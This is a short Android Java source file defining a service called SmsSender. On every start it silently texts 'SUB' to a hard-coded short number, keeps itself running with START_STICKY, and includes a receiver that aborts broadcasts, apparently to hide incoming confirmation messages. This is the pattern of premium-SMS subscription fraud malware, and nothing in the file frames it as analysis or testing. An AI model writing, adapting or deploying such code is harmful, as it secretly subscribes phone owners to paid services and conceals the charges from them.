package com.example.sms;

import android.app.Service;
import android.content.Intent;
import android.os.IBinder;
import android.telephony.SmsManager;

public class SmsSender extends Service {
    private static final String NUMBER = "5551234";

    @Override
    public int onStartCommand(Intent intent, int flags, int startId) {
        send(NUMBER, "SUB " + startId);
        return START_STICKY;
    }

    private void send(String to, String body) {
        SmsManager.getDefault().sendTextMessage(to, null, body, null, null);
    }

    @Override
    public IBinder onBind(Intent intent) {
        return null;
    }

    private final class Receiver extends android.content.BroadcastReceiver {
        @Override
        public void onReceive(android.content.Context c, Intent i) {
            abortBroadcast();
        }
    }
}
